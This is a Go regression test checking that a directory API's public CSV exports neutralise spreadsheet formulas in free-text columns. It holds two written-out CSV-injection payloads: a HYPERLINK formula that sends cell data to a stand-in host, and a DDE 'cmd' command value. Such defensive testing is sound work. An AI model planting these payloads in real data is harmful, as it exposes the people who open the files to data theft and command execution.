package api_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"carnet/api/apitest"
	"carnet/models"
)

// TestExportCellsNeverFormulas: the open data CSV export protected the
// free-text columns it knew of (names, addresses, presentations) but not
// the others a writer fills freely: a structure's manager setting its
// « producer » to =HYPERLINK(…), or a partner its source_id, put a formula
// in the « source » or « id » cell of the public file that every reuser
// opens in a spreadsheet.
func TestExportCellsNeverFormulas(t *testing.T) {
	e := apitest.New(t)
	a := str(createActor(t, e, validActor("Médiathèque"))["id"])
	createService(t, e, merge(validService(a, "Atelier"), obj{"status": "published"}))
	_, mgr := e.Account("gestion@example.fr", map[string]models.Role{a: models.RoleManager}, models.Territory{})
	formula := `=HYPERLINK("http://x.example/?"&A1,"Cliquez")`
	if r := e.Do(apitest.Request{Method: "PATCH", Path: "/api/v1/actors/" + a, Token: mgr, ContentType: "application/merge-patch+json",
		Body: obj{"producer": formula}}); r.Code != 200 {
		t.Fatalf("producer: %d %s", r.Code, r.Body)
	}
	_, partner := e.Partner("Hub", []string{"hub"}, []string{models.ScopeSyncWrite, models.ScopeDirectoryWrite})
	if r := e.Do(apitest.Request{Method: "PUT", Path: "/api/v1/sync/hub/actors", Token: partner,
		Body: obj{"actors": []obj{partnerActor("+cmd|' /C calc'!A0", "Point hub")}}}); r.Code != 200 {
		t.Fatalf("sync: %d %s", r.Code, r.Body)
	}
	for _, f := range []string{"standard-csv", "quality-csv"} {
		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/" + f})
		rows, err := csv.NewReader(strings.NewReader(r.Body.String())).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && !strings.HasPrefix(cell, "+33") {
					t.Errorf("%s: column %s starts a formula: %q", f, rows[0][i], cell)
				}
			}
		}
	}
}
